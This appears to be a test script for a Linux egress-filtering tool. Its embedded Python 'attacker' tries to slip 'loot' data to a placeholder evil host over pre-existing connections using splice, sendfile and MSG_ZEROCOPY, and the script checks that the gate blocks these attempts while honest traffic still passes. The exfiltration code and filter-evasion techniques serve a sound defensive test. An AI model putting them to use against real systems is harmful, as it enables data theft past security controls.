#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: feeds a connection that is older than the gate by splice, sendfile and MSG_ZEROCOPY instead of write
# stopped-by: egress
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

SO_ZEROCOPY, MSG_ZEROCOPY = 60, 0x4000000

def by_splice(sock, data):
    end, start = os.pipe()
    os.write(start, data)
    check(LIBC.splice(end, None, sock.fileno(), None, len(data), 0))

def by_sendfile(sock, data):
    file = os.memfd_create("loot")
    os.write(file, data)
    os.sendfile(sock.fileno(), file, 0, len(data))

def by_zerocopy(sock, data):
    sock.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
    sock.send(data, MSG_ZEROCOPY)

ways = {"splice": by_splice, "sendfile": by_sendfile, "zerocopy": by_zerocopy}
evil = {name: socket.create_connection((EVIL4, 443), 1) for name in ways}
good = {name: socket.create_connection((GOOD4, 443), 1) for name in ways}
ready()
for name, way in ways.items():
    with attempt(name):
        way(evil[name], loot(name).ljust(20000, b"."))
    way(good[name], honest(name).ljust(20000, b"."))
PYTHON
works_once_open stolen:splice stolen:sendfile stolen:zerocopy
stopped_once_open gate
passes honest:splice honest:sendfile honest:zerocopy
recorded 'egress|sock_destroy' destination
